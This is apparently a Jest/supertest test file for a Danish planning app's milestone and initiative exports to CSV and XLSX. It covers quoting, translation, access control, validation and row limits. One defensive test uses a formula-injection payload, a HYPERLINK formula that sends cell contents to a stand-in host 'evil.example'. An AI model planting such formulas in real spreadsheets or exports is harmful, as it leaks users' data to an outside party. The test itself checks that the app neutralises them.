import ExcelJS from 'exceljs';
import request from 'supertest';
import { SignedInWorld, useSignedInWorld } from '../testing/accounts';
import type { TestApp } from '../testing/test-app';
import { MAX_EXPORT_ROWS } from './export.service';
import { binary } from '../testing/bytes';

async function readSheet(body: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const rows: unknown[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return { sheet, rows };
}

/** CSV records, split as RFC 4180 says (quoted fields may hold commas, quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [[]];
  const field = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n|$)/gy;
  let match: RegExpExecArray | null;
  while (field.lastIndex < text.length && (match = field.exec(text))) {
    records[records.length - 1].push(
      match[2] !== undefined ? match[2].replace(/""/g, '"') : match[1],
    );
    if (match[3] === '\r\n' && field.lastIndex < text.length) records.push([]);
  }
  return records;
}

describe('exporting the milestones and initiatives lists', () => {
  let t: TestApp;
  let w: SignedInWorld;
  useSignedInWorld((app, world) => {
    t = app;
    w = world;
  });

  const as = (account: keyof SignedInWorld['accounts'] = 'secretariat') =>
    w.accounts[account].agent;
  const get = (path: string, query: Record<string, string> = {}, account?: 'steering' | 'anna') =>
    as(account).get(path).query(query).buffer(true).parse(binary);

  it('exports the filtered milestones to .xlsx in the list’s sort, with real dates and Danish values', async () => {
    const res = await get('/api/milestones/export.xlsx', {
      filter: JSON.stringify({ focusAreaId: w.focusAreas.areaA.id }),
      sort: '["dueDate","DESC"]',
    }).expect(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="pejling-milestones.xlsx"',
    );
    const list = await as()
      .get('/api/milestones')
      .query({
        filter: JSON.stringify({ focusAreaId: w.focusAreas.areaA.id }),
        sort: '["dueDate","DESC"]',
      })
      .expect(200);
    const { sheet, rows } = await readSheet(res.body);
    expect(rows[0]).toEqual([
      'ID',
      'Initiativ',
      'Initiativets titel',
      'Indsatsområde',
      'Titel',
      'Beskrivelse',
      'Frist',
      'Ansvarlig',
      'Status',
      'Færdig den',
      'Overskredet',
    ]);
    expect(rows.slice(1).map((row) => row[0])).toEqual(list.body.map((m: { id: number }) => m.id));
    const workshop = rows.find((row) => row[0] === w.milestones.workshop.id) ?? [];
    expect(workshop[1]).toBe('A.1');
    expect(workshop[4]).toBe('Workshop om fødevarer');
    expect(workshop[6]).toEqual(new Date('2017-03-01T00:00:00Z'));
    expect(workshop[8]).toBe('Planlagt');
    expect(workshop[10]).toBe('Ja');
    expect(sheet.getColumn(7).numFmt).toBe('dd-mm-yyyy');
    expect(sheet.getCell(2, 7).numFmt).toBe('dd-mm-yyyy');
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:K1');
  });

  it('exports every matching row, not a page, and in English with ?lang=en', async () => {
    const many = Array.from({ length: 30 }, (_, i) => i);
    for (const i of many) {
      await w.f.milestone({
        initiativeId: w.initiatives.b1.id,
        title: `M${i}`,
        dueDate: '2018-01-01',
      });
    }
    const res = await get('/api/milestones/export.xlsx', {
      filter: JSON.stringify({ initiativeId: w.initiatives.b1.id, status: 'planned' }),
      lang: 'en',
    }).expect(200);
    const { rows } = await readSheet(res.body);
    expect(rows[0][6]).toBe('Due date');
    expect(rows.length - 1).toBe(many.length);
    expect(new Set(rows.slice(1).map((row) => row[8]))).toEqual(new Set(['Planned']));
  });

  it('quotes CSV fields with commas, quotes and line breaks, in UTF-8 with a BOM', async () => {
    const tricky = 'Møde, "åbent" om æøå\r\nanden linje';
    const m = await w.f.milestone({
      initiativeId: w.initiatives.a1.id,
      title: tricky,
      description: 'plain',
      dueDate: '2017-12-24',
    });
    const res = await get('/api/milestones/export.csv', {
      filter: JSON.stringify({ id: [m.id] }),
    }).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.toString('utf8').slice(1);
    expect(text).toContain(`"Møde, ""åbent"" om æøå\r\nanden linje"`);
    expect(text.endsWith('\r\n')).toBe(true);
    const [headers, row] = parseCsv(text);
    expect(headers[4]).toBe('Titel');
    expect(row[4]).toBe(tricky);
    expect(row[6]).toBe('2017-12-24');
    expect(row).toHaveLength(headers.length);
  });

  describe('a text a spreadsheet would run as a formula', () => {
    const formulas = {
      title: '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
      description: '\t=1+1',
    };
    const exported = async (format: 'csv' | 'xlsx') => {
      const m = await w.f.milestone({ initiativeId: w.initiatives.a1.id, ...formulas });
      return get(`/api/milestones/export.${format}`, {
        filter: JSON.stringify({ id: [m.id] }),
      }).expect(200);
    };

    it('is text with a leading apostrophe in a CSV', async () => {
      await t.dataSource.query('UPDATE initiatives SET title = $2 WHERE id = $1', [
        w.initiatives.a1.id,
        '@SUM(A1:A9)',
      ]);
      const [, row] = parseCsv((await exported('csv')).body.toString('utf8').slice(1));
      expect(row.slice(2, 6)).toEqual([
        "'@SUM(A1:A9)",
        expect.any(String),
        `'${formulas.title}`,
        `'${formulas.description}`,
      ]);
    });

    it('is a plain text cell, as it was written, in an .xlsx', async () => {
      const { sheet } = await readSheet((await exported('xlsx')).body);
      for (const [column, text] of [
        [5, formulas.title],
        [6, formulas.description],
      ] as const) {
        const cell = sheet.getRow(2).getCell(column);
        expect({ type: cell.type, value: cell.value, formula: cell.formula }).toEqual({
          type: ExcelJS.ValueType.String,
          value: text,
          formula: undefined,
        });
      }
    });
  });

  it('exports initiatives with translated status and health, and every lead, an inferred one marked', async () => {
    // A.1 led by UFM (inferred) and CED.
    await t.dataSource.query(
      'UPDATE initiative_leads SET inferred = true WHERE initiative_id = $1',
      [w.initiatives.a1.id],
    );
    await t.dataSource.query(
      'INSERT INTO initiative_leads (initiative_id, organisation_id, position) VALUES ($1, $2, 1)',
      [w.initiatives.a1.id, w.organisations.ced.id],
    );
    const res = await get('/api/initiatives/export.csv', {
      filter: JSON.stringify({ health: 'green' }),
      sort: '["code","ASC"]',
    }).expect(200);
    const [headers, ...rows] = parseCsv(res.body.toString('utf8').slice(1));
    expect(headers.slice(0, 4)).toEqual([
      'Kode',
      'Titel',
      'Indsatsområde',
      'Ansvarlige organisationer',
    ]);
    const a1 = rows.find((row) => row[0] === 'A.1') ?? [];
    expect(a1[3]).toBe('UFM (udledt), CED');
    expect(a1[5]).toBe('I gang');
    expect(a1[6]).toBe('Grøn');
    const xlsx = await get('/api/initiatives/export.xlsx', { lang: 'en' }).expect(200);
    const { rows: sheetRows } = await readSheet(xlsx.body);
    expect(sheetRows[0].slice(0, 4)).toEqual(['Code', 'Title', 'Focus area', 'Lead organisations']);
    expect(sheetRows.find((row) => row[0] === 'A.1')?.[3]).toBe('UFM (inferred), CED');
  });

  it('lets every role that may list export, and nobody without a session', async () => {
    for (const account of ['steering', 'anna'] as const) {
      await get('/api/milestones/export.csv', {}, account).expect(200);
      await get('/api/initiatives/export.xlsx', {}, account).expect(200);
    }
    await request(t.app.getHttpServer()).get('/api/milestones/export.csv').expect(401);
  });

  it('refuses bad input with 400, as the list does', async () => {
    const bad = async (query: Record<string, string>, message: RegExp) => {
      const res = await as().get('/api/milestones/export.xlsx').query(query).expect(400);
      expect(res.body.message).toMatch(message);
    };
    await bad({ filter: '{"colour":"red"}' }, /unknown field "colour"/);
    await bad({ filter: '{"status":"finished"}' }, /status must be one or more of/);
    await bad({ sort: '["description","ASC"]' }, /cannot sort by/);
    await bad({ filter: 'not json' }, /filter is not valid JSON/);
    await bad({ lang: 'de' }, /lang must be da or en/);
    await bad({ range: '[0,9]' }, /every matching row/);
    await bad({ page: '2' }, /unknown query parameter: page/);
  });

  it(`refuses more than ${MAX_EXPORT_ROWS} rows with a clear 400`, async () => {
    await t.dataSource.query(
      `INSERT INTO milestones (initiative_id, title, due_date)
       SELECT $1, 'M' || n, '2018-01-01' FROM generate_series(1, $2) AS n`,
      [w.initiatives.b1.id, MAX_EXPORT_ROWS + 1],
    );
    const res = await as()
      .get('/api/milestones/export.csv')
      .query({ filter: JSON.stringify({ initiativeId: w.initiatives.b1.id }) })
      .expect(400);
    expect(res.body.message).toMatch(/at most 50000: narrow the filter/);
  });
});
